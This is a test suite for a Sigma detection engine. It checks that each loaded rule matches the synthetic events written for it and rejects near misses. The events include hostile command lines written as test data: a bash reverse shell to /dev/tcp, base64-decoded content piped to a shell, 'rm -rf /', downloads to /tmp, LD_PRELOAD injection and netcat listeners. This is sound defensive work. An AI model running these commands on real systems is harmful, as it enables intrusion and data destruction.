"""Every supported modifier and condition form, on the rule files in rules/loaded/: each rule matches the
events written for it and none of the near misses."""

from __future__ import annotations

import base64
from collections.abc import Mapping
from pathlib import Path

import pytest

from amoskys.detections.sigma.engine import RuleSet, load_rules
from amoskys.detections.sigma.fields import network_connection_fields, process_creation_fields

RULES = Path(__file__).parent / "rules"


def exe(cmd: str, image: str | None = None, **more: object) -> dict[str, object]:
    """An exec's Sigma fields: argv from `cmd` split on spaces, Image the first word unless given."""
    argv = cmd.split(" ")
    fields = process_creation_fields(
        exe=image if image is not None else argv[0],
        argv=argv,
        user=str(more.pop("user", "alice")),
        pid=int(more.pop("pid", 4242)),  # type: ignore[call-overload]
        ppid=int(more.pop("ppid", 4000)),  # type: ignore[call-overload]
        cwd=str(more.pop("cwd", "/home/alice")),
        parent_exe=more.pop("parent_exe", "/usr/bin/bash"),  # type: ignore[arg-type]
        parent_argv=more.pop("parent_argv", ["bash"]),  # type: ignore[arg-type]
    )
    fields.update(more)
    return {k: v for k, v in fields.items() if v is not None}


def flow(dst: str, port: int, proto: int = 6, initiated: bool = True) -> dict[str, object]:
    return network_connection_fields(
        src_addr="10.9.9.9", src_port=50000, dst_addr=dst, dst_port=port, protocol=proto, initiated=initiated
    )


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# rule id -> (events that match, near misses that must not)
CASES: dict[str, tuple[list[Mapping[str, object]], list[Mapping[str, object]]]] = {
    # contains + endswith lists (OR), all of selection_*
    "28f21972-a92d-48df-aa18-8b6429bfbaf4": (
        [exe("/usr/bin/curl -o /tmp/x http://e"), exe("/usr/bin/WGET -O /dev/shm/p http://e")],
        [exe("/usr/bin/curl -o /home/a/x http://e"), exe("/usr/bin/curly -o /tmp/x http://e")],
    ),
    # list of maps (OR of selections) and contains, keyword-free
    "d6b7b9c6-5049-4e3e-87d1-629235f11a21": (
        [exe("sh -c echo aGk= | base64 -d | sh", "/bin/sh"), exe("sh -c echo x|BASE64 -D|bash", "/bin/sh")],
        [exe("sh -c echo aGk= | base64 -d > f", "/bin/sh"), exe("sh -c cat f | sh", "/bin/sh")],
    ),
    "257ea146-a3ca-48d1-92e8-f6b75ddf6b29": (
        [exe("/usr/bin/chattr -i /etc/passwd")],
        [exe("/usr/bin/chattr +i /etc/passwd"), exe("/usr/bin/lsattr -i /etc/passwd")],
    ),
    # startswith
    "b4e600bd-f651-49f4-b8c2-cc589d49e6a8": (
        [exe("/tmp/x"), exe("/DEV/SHM/run")],
        [exe("/usr/bin/tmp/x"), exe("/var/tmpx/y")],
    ),
    # contains|all
    "393e2ba4-8816-413e-ab1e-5329e50fc692": (
        [exe("/usr/sbin/iptables -F -X"), exe("/usr/sbin/ip6tables -X -t nat -F")],
        [exe("/usr/sbin/iptables -F"), exe("/usr/sbin/iptables -X")],
    ),
    # re, case-sensitive
    "bdda8890-3f8b-44f4-a6f7-01ba753f5950": (
        [exe("bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "/bin/bash")],
        [exe("bash -c bash -i >& /DEV/TCP/10.0.0.1/4444 0>&1", "/bin/bash"), exe("cat /dev/tcp/host/80")],
    ),
    # re|i
    "a7d9baa4-67c1-4e63-8c98-4983655eb7bb": (
        [exe("PYTHON3 -c IMPORT  SOCKET,os", "/usr/bin/python3")],
        [exe("python3 -c import os", "/usr/bin/python3")],
    ),
    # re|m
    "0f79604e-255e-4f53-916e-ae466c6a580f": (
        [{"CommandLine": "sh -c echo hi\nrm -rf /\necho done", "Image": "/bin/sh"}],
        [{"CommandLine": "sh -c echo hi; rm -rf /", "Image": "/bin/sh"}],
    ),
    # re|s
    "cb8a2430-1974-438d-b6c0-aac5deadf6df": (
        [{"CommandLine": "sh -c curl -o a http://e\nchmod +x a", "Image": "/bin/sh"}],
        [{"CommandLine": "sh -c chmod +x a\ncurl -o a http://e", "Image": "/bin/sh"}],
    ),
    # cased
    "703f5b57-0062-4f90-8d07-db64cd92d70a": (
        [exe("env LD_PRELOAD=/tmp/x.so ls", "/usr/bin/env")],
        [exe("env ld_preload=/tmp/x.so ls", "/usr/bin/env")],
    ),
    # exists: false and null
    "924e764e-0eaf-4689-8c1e-5f57305ac09b": (
        [exe("/usr/bin/python3 x.py", parent_exe=None, parent_argv=None)],
        [exe("/usr/bin/python3 x.py"), exe("/usr/bin/python3 x.py", parent_exe=None)],
    ),
    # windash
    "56afb830-85ae-49ac-bd63-37e1f8d1f4ad": (
        [exe("/usr/bin/find /var/log -name *.gz -delete"), exe("/usr/bin/find /var/log /delete")],
        [exe("/usr/bin/find /var/log -name *.gz"), exe("/usr/bin/find /home -delete")],
    ),
    # base64
    "985514e5-c6db-4191-a7e3-58d9188ff32f": (
        [exe(f"sh -c echo {b64('#!/bin/bash')} | base64 -d", "/bin/sh")],
        [exe(f"sh -c echo {b64('#!/bin/sh')} | base64 -d", "/bin/sh")],
    ),
    # base64offset, at each of the three offsets
    "f805acd2-cf21-479b-b672-48ec718f2133": (
        [exe(f"echo {b64(prefix + 'curl http://e/x | sh')}", "/bin/echo") for prefix in ("", "a", "ab")],
        [exe(f"echo {b64('wget http://e/x | sh')}", "/bin/echo")],
    ),
    # fieldref (and a filter with not)
    "a75d9f86-8b8e-467d-a4d4-5000a420e143": (
        [exe("/usr/bin/tool --child", parent_exe="/usr/bin/TOOL")],
        [exe("/usr/bin/tool", parent_exe="/usr/bin/other"), exe("/bin/bash -c x", parent_exe="/bin/bash")],
    ),
    # lt, gte, gt, lte on numbers
    "e1334f76-b9e5-4be8-8e38-88eaca5ffb5f": (
        [
            exe("/usr/sbin/cron", user="root", pid=100, ppid=2),
            exe("/usr/sbin/x", user="root", pid=999, ppid=50),
        ],
        [
            exe("/usr/sbin/cron", user="root", pid=1000, ppid=2),
            exe("/usr/sbin/cron", user="root", pid=99, ppid=2),
            exe("/usr/sbin/cron", user="root", pid=500, ppid=1),
            exe("/usr/sbin/cron", user="root", pid=500, ppid=51),
            exe("/usr/sbin/cron", user="bob", pid=500, ppid=2),
        ],
    ),
    # keywords (searched in CommandLine), a plain one and one with explicit wildcards
    "d33af4fe-7aa2-4250-91f2-81a6eb499f96": (
        [exe("sh -c mkfifo /tmp/f; cat /tmp/f", "/bin/sh"), exe("busybox NC -L -p 9", "/bin/busybox")],
        [exe("mkfifo /var/f", "/usr/bin/mkfifo"), exe("nc -z host 80", "/usr/bin/nc")],
    ),
    # wildcards inside a value
    "35e945fb-3f5b-4ffd-b0ac-cd19da42feca": (
        [exe("/home/bob/.x"), exe("/root/.cache/run")],
        [exe("/home/bob/x"), exe("/usr/home/bob/.x")],
    ),
    # an escaped star, and ? (exactly one character)
    "96358665-2e5e-4582-b322-f4399463e4c8": (
        [exe("rm -rf /*", "/bin/rm"), exe("chmod 4777 /tmp/x", "/bin/chmod")],
        [
            exe("rm -rf /tmp", "/bin/rm"),
            exe("chmod 777 /tmp/x", "/bin/chmod"),
            exe("chmod 47777 x", "/bin/chmod"),
        ],
    ),
    # (a or b) and c and not 1 of filter_*
    "a36263b1-b221-40c8-ab83-319d3c6c54c6": (
        [
            exe("sh -c id", "/bin/sh", parent_exe="/usr/sbin/nginx"),
            exe("bash", "/bin/bash", parent_exe="/usr/sbin/httpd"),
        ],
        [
            exe("sh -c id", "/bin/sh", parent_exe="/usr/bin/sshd"),
            exe("sh -c healthcheck", "/bin/sh", parent_exe="/usr/sbin/nginx"),
            exe("sh -c id", "/bin/sh", parent_exe="/usr/sbin/nginx", cwd="/var/lib/monitoring"),
            exe("/usr/bin/id", parent_exe="/usr/sbin/nginx"),
        ],
    ),
    # all of them
    "bc3d7317-197c-473f-a01f-9f5e29fa6115": (
        [exe("/bin/bash", parent_exe="/usr/bin/sudo", cwd="/tmp/build")],
        [exe("/bin/bash", parent_exe="/usr/bin/sudo", cwd="/home/a"), exe("/bin/bash", cwd="/tmp")],
    ),
    # 1 of them, and a list of conditions
    "004d9a11-abce-4450-b753-52f150e69089": (
        [exe("/sbin/insmod x.ko"), exe("/sbin/modprobe -r x"), exe("/sbin/rmmod x")],
        [exe("/sbin/modprobe x"), exe("/sbin/lsmod")],
    ),
    # neq
    "8cc3f60e-8b05-452e-a491-3684405de8a0": (
        [exe("/usr/bin/crontab -u bob -e", user="alice")],
        [exe("/usr/bin/crontab -u bob -e", user="root"), exe("/usr/bin/crontab -e", user="alice")],
    ),
    # our ImageDeleted flag
    "e2185bce-245f-4542-9d55-82b1b433103f": (
        [exe("/tmp/payload", "/tmp/payload (deleted)")],
        [exe("/usr/bin/ls")],
    ),
}

FLOW_CASES: dict[str, tuple[list[Mapping[str, object]], list[Mapping[str, object]]]] = {
    # cidr list, number, string, boolean-as-string
    "368627da-f9a8-44d7-83c8-7bca53987553": (
        [flow("10.1.2.3", 445), flow("192.168.7.7", 445)],
        [
            flow("172.16.0.1", 445),
            flow("10.1.2.3", 139),
            flow("10.1.2.3", 445, proto=17),
            flow("10.1.2.3", 445, initiated=False),
        ],
    ),
    # 1 of selection_* and not (cidr filter), gte/lte on ports, IPv6
    "2a5101f1-f4c2-409b-ba75-2ce0d8a0cb9b": (
        [flow("8.8.8.8", 4444), flow("2001:db8::1", 31338)],
        [flow("10.0.0.1", 4444), flow("fd00::1", 1337), flow("8.8.8.8", 31340), flow("8.8.8.8", 443)],
    ),
}


@pytest.fixture(scope="module")
def ruleset() -> RuleSet:
    return load_rules([RULES / "loaded"])


def test_every_rule_file_in_the_folder_has_cases(ruleset: RuleSet) -> None:
    assert sorted(r.id for r in ruleset.rules) == sorted([*CASES, *FLOW_CASES])
    assert ruleset.unsupported == () and ruleset.invalid == ()


def _ids(ruleset: RuleSet, category: str, fields: Mapping[str, object]) -> set[str]:
    return {r.id for r in ruleset.match(category, fields)}


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_process_rule_matches_its_events_and_not_the_near_misses(ruleset: RuleSet, rule_id: str) -> None:
    hits, misses = CASES[rule_id]
    for fields in hits:
        assert rule_id in _ids(ruleset, "process_creation", fields), fields
    for fields in misses:
        assert rule_id not in _ids(ruleset, "process_creation", fields), fields


@pytest.mark.parametrize("rule_id", sorted(FLOW_CASES))
def test_network_rule_matches_its_flows_and_not_the_near_misses(ruleset: RuleSet, rule_id: str) -> None:
    hits, misses = FLOW_CASES[rule_id]
    for fields in hits:
        assert rule_id in _ids(ruleset, "network_connection", fields), fields
    for fields in misses:
        assert rule_id not in _ids(ruleset, "network_connection", fields), fields


def test_a_benign_exec_matches_nothing(ruleset: RuleSet) -> None:
    assert ruleset.match("process_creation", exe("/usr/bin/ls -la /home/alice")) == []


def test_process_rules_never_see_flows_and_an_unknown_category_matches_nothing(ruleset: RuleSet) -> None:
    assert ruleset.match("network_connection", exe("/usr/bin/chattr -i /etc/passwd")) == []
    assert ruleset.match("file_event", exe("/usr/bin/chattr -i /etc/passwd")) == []


def test_a_field_missing_from_the_event_is_false_never_an_error(ruleset: RuleSet) -> None:
    assert ruleset.match("process_creation", {}) == []
    assert ruleset.match("network_connection", {}) == []
    odd = {"Image": None, "CommandLine": 7, "ProcessId": "not a number", "ParentProcessId": True}
    assert ruleset.match("process_creation", odd) == []


def test_rule_metadata_is_carried_verbatim(ruleset: RuleSet) -> None:
    rule = next(r for r in ruleset.rules if r.id == "d6b7b9c6-5049-4e3e-87d1-629235f11a21")
    assert rule.title == "Base64 Decoded Content Piped to a Shell"
    assert rule.level == "high" and rule.status == "test" and rule.category == "process_creation"
    assert rule.tags == ("attack.defense-evasion", "attack.t1140", "attack.execution", "attack.t1059.004")
    assert rule.description.startswith("Detects a command line that decodes base64")
    assert rule.path == RULES / "loaded" / "proc_creation_lnx_base64_pipe_shell.yml"
    assert rule.fields_used == ("CommandLine",)


def test_the_index_tries_only_rules_that_name_no_program_on_an_unrelated_exec(ruleset: RuleSet) -> None:
    everything = sum(1 for r in ruleset.rules if r.category == "process_creation")
    unrelated = ruleset.candidates("process_creation", exe("/usr/bin/ls -la"))
    chattr = ruleset.candidates("process_creation", exe("/usr/bin/chattr -i x"))
    # nine rules require an Image basename (curl/wget, chattr, iptables, python, find, the web server
    # shells, sudo bash, the module tools, crontab): an exec of ls never tries them
    assert unrelated == everything - 9
    assert chattr == unrelated + 1
    assert ruleset.candidates("process_creation", exe("/bin/bash")) == unrelated + 2
